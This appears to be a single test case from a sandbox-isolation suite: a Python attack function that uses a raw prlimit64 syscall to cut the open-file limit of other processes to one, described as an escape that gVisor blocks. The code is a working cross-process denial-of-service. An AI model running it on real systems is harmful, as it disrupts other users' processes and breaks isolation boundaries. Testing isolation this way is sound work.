"""Class: processes. Source: own find. Escape: another process's limits are changed. gVisor: shows
nobody's limits.
"""

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    limits = struct.pack("<QQ", 1, 1)
    for pid in scene["processes"].values():
        libc.syscall(302, pid, 7, limits, 0)
